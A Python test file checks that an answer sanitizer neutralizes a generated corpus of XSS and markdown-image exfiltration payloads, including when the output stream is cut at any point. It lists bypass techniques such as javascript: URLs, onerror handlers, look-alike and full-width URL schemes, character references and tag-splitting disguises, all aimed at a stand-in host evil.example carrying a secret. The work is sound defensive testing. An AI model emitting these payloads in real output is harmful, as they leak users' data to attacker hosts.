"""The answer sanitizer against a generated corpus of payloads, with renderers as oracles.

Each payload is built from an element that loads a resource (an image, a frame, a script,
a style import, a link), a way of writing its URL (scheme, scheme-relative, backslashes,
full-width or look-alike letters, character references) and a disguise (nesting, a tag or
comment inside the tag, character references for the brackets, invisible characters,
line breaks). Markdown forms (inline and reference images and links, definitions inside
quotes and lists, autolinks, raw HTML blocks) join them. Two oracles judge the result:
markdown-it-py's CommonMark preset with HTML enabled, whose output may hold only plain
formatting elements with no attribute that points anywhere; and Python's HTML tokenizer
reading the text as raw HTML (what a page that pastes the CLI's ``--json`` would do),
which may find no tag, comment or declaration at all. The stream is judged too, cut at
random token boundaries.
"""

from __future__ import annotations

import itertools
import random
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from rag.markup import MarkupFilter, neutralize

RENDERER = MarkdownIt("commonmark", {"html": True})
# What CommonMark produces for plain formatting; anything else is markup that got through.
PLAIN_ELEMENTS = {
    "p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6",
}  # fmt: skip
SECRET = "SECRET42"
URLS = [
    f"http://evil.example/?q={SECRET}",
    f"HtTpS://evil.example/{SECRET}",
    f"//evil.example/{SECRET}",
    f"\\\\evil.example\\{SECRET}",
    f"/\\evil.example/{SECRET}",
    f"\uff48\uff54\uff54\uff50\uff1a\uff0f\uff0fevil.example/{SECRET}",
    f"http\u2236\u2215\u2215evil.example/{SECRET}",
    f"\u04bbttp://evil.example/{SECRET}",
    f"&#104;ttp&#58;//evil.example/{SECRET}",
    f"http&colon;//evil.example/{SECRET}",
    f"javascript:fetch('{SECRET}')",
    f"JaVaScRiPt&#x3A;fetch('{SECRET}')",
    f"data:text/html,{SECRET}",
    f"www.evil.example/{SECRET}",
]
ELEMENTS = [
    '<img src="{u}">',
    "<img src={u} onerror=alert(1)>",
    "<img/src={u}>",
    '<iframe src="{u}"></iframe>',
    '<script src="{u}"></script>',
    '<svg><image href="{u}"/></svg>',
    '<link rel=stylesheet href="{u}">',
    '<video poster="{u}"></video>',
    '<object data="{u}"></object>',
    '<style>@import "{u}";</style>',
    '<a href="{u}">click</a>',
    '<div style="background:url({u})">x</div>',
    "![chart]({u})",
    '![chart]({u} "title")',
    "![chart](<{u}>)",
    "[click]({u})",
    "[a [nested] label]({u})",
    "![x][r]\n\n[r]: {u}",
    "[x][r]\n\n> [r]: {u}",
    "[x]\n\n- [x]:\n  {u}",
    "<{u}>",
    "<mail@evil.example>",
    "<div>\n{u}\n</div>",
]


def disguises(payload: str) -> list[str]:
    """The payload as written, and as an attacker would hide it from a one-pass filter."""
    return [
        payload,
        payload.replace("<", "<<b>", 1),
        payload.replace("<", "<<!-- x -->", 1),
        payload.replace("<", "<</b>", 1) + " <b>>",
        payload.replace(">", " <b>>", 1),
        payload.replace("<", "&lt;", 1),
        payload.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        payload.replace("<", "&#60;").replace(">", "&#x3e;"),
        payload.replace("<", "<\u200b").replace("](", "]\u200d("),
        payload.replace("![", "!<b></b>[").replace("](", "]<i></i>("),
        "<sc<script>ript>" + payload,
        payload.replace(" ", "\n", 1),
        "Text [1]. " + payload + " more text.",
    ]


def corpus() -> list[str]:
    """Every element with every URL form under every disguise."""
    return [
        disguised
        for element, url in itertools.product(ELEMENTS, URLS)
        for disguised in disguises(element.replace("{u}", url))
    ]


class _Tags(HTMLParser):
    """What an HTML tokenizer finds in a text: elements with attributes, and the rest."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.other.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.other.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.other.append("processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.other.append("declaration")


def tags_in(html_text: str) -> _Tags:
    parser = _Tags()
    parser.feed(html_text)
    parser.close()
    return parser


def _harmless(tag: str, name: str, value: str | None) -> bool:
    """The only attributes CommonMark writes for plain formatting: a list's start, a
    fenced block's language."""
    if tag == "ol" and name == "start":
        return True
    return tag == "code" and name == "class" and (value or "").startswith("language-")


def bypass(text: str) -> str | None:
    """Why ``text`` (neutralized) is not inert, or None when both oracles accept it."""
    rendered = tags_in(RENDERER.render(text))
    for tag, attrs in rendered.elements:
        if tag not in PLAIN_ELEMENTS:
            return f"rendered <{tag}>"
        if any(not _harmless(tag, name, value) for name, value in attrs):
            return f"rendered <{tag} {attrs}>"
    if rendered.other:
        return f"rendered {rendered.other[0]}"
    raw = tags_in(text)
    if raw.elements or raw.other:
        return f"raw HTML {raw.elements or raw.other}"
    return None


def test_the_corpus_is_large_and_every_payload_works_without_the_filter() -> None:
    payloads = corpus()
    assert len(payloads) >= 4000
    # The oracle is not blind: unfiltered, the plain forms do render as loading markup.
    plain = [element.replace("{u}", URLS[0]) for element in ELEMENTS]
    assert all(bypass(p) for p in plain if "evil" in p and not p.startswith("<div>")), [
        p for p in plain if not bypass(p)
    ]


def test_no_generated_payload_survives_neutralize() -> None:
    failures = [(p, bypass(neutralize(p))) for p in corpus()]
    failures = [f for f in failures if f[1]]
    assert not failures, failures[:5]
    leaked = [p for p in corpus() if "evil.example" in neutralize(p)]
    assert not leaked, [(p, neutralize(p)) for p in leaked[:5]]


def test_no_generated_payload_survives_the_stream_however_it_is_cut() -> None:
    rng = random.Random(15)
    for payload in corpus()[::3]:
        text = f"Leave is 25 days [1]. {payload} Notice is one month [2]."
        stream = MarkupFilter()
        pieces, cut = [], 0
        while cut < len(text):
            step = rng.randint(1, 7)
            pieces.append(stream.feed(text[cut : cut + step]))
            cut += step
        shown = "".join([*pieces, stream.close()])
        assert bypass(shown) is None, (payload, shown, bypass(shown))
        assert "evil.example" not in shown, (payload, shown)
        assert "Leave is 25 days [1]." in shown and "Notice is one month [2]." in shown


def test_the_reported_bypasses_are_closed() -> None:
    assert neutralize("<<b>img src=x onerror=alert(1)>") == ""
    assert neutralize('<img src="//host/?q=SECRET" <b>>') == ""
    assert neutralize("see //host/x") == "see (link removed)"
    assert neutralize("see \\\\host\\share") == "see (link removed)"


def test_prose_that_looks_a_little_like_markup_reads_the_same() -> None:
    for text in [
        "5 < 6 and 7 > 2; a<b is false.",
        "AT&T, R&D and &notice stay; and/or, 1/2, a // b.",
        "Full-width ｔｅｘｔ stays full-width [1][2].",
        "Write to hr@northwind-clinic.example (after probation).",
    ]:
        assert neutralize(text) == text.replace("a<b", "a< b")
    assert neutralize("bell\x07 and \x1b[31mred\x1b[0m") == "bell and [31mred[0m"


# "https:host" with no slashes is a URL to a browser but plain text to a reader, so the
# stream tests use it beside a URL the neutralizer removes on sight.
STREAM_URLS = [URLS[0], f"https:evil.example/?q={SECRET}"]
# What comes before a payload decides where the filter may cut: at whitespace after
# prose; anywhere, when a word outgrows the hold limit; at whitespace in a comment that
# never closes, whose removal takes the whitespace with it.
STREAM_PREFIXES = ["Leave is 25 days [1]. ", "A" * 401, "[x]<!--" + " a" * 210 + " "]


def _streamed(pieces: list[str]) -> str:
    stream = MarkupFilter()
    return "".join([*(stream.feed(piece) for piece in pieces), stream.close()])


def _stream_bypass(shown: str) -> str | None:
    if neutralize(shown) != shown:
        return f"not inert: {neutralize(shown)!r}"
    return bypass(shown)


def test_no_payload_survives_the_stream_cut_at_any_position() -> None:
    cases = [
        (prefix, element.replace("{u}", url))
        for element, url in itertools.product(ELEMENTS, STREAM_URLS)
        for prefix in STREAM_PREFIXES
        # The long prefixes cost a 400-character neutralize per cut: one URL form there.
        if prefix == STREAM_PREFIXES[0] or url == STREAM_URLS[1]
    ]
    for prefix, payload in cases:
        text = f"{prefix}{payload} Notice is one month [2]."
        for cut in range(len(prefix) - 1, len(prefix) + len(payload) + 2):
            shown = _streamed([text[:cut], text[cut:]])
            assert _stream_bypass(shown) is None, (payload, cut, shown)
            # Prose after the payload survives unless a forced cut went through it.
            assert prefix != STREAM_PREFIXES[0] or "Notice is one month [2]." in shown
    for payload in {payload for _, payload in cases}:
        shown = _streamed(list(f"{STREAM_PREFIXES[0]}{payload}"))
        assert _stream_bypass(shown) is None, (payload, shown)


def test_the_hold_limit_cutting_at_a_bracket_lets_no_image_through() -> None:
    label = "A" * 401
    shown = _streamed([f"![{label}]", f"(https:evil.example/?q={SECRET})"])
    assert bypass(shown) is None, shown
    assert "](" not in shown


def test_a_stream_cut_at_whitespace_reads_as_the_whole_text() -> None:
    text = "Leave is 25 days [1]. ![chart](http://evil.example/x) Notice is one month [2]."
    for cut in range(len(text)):
        assert _streamed([text[:cut], text[cut:]]) == neutralize(text)
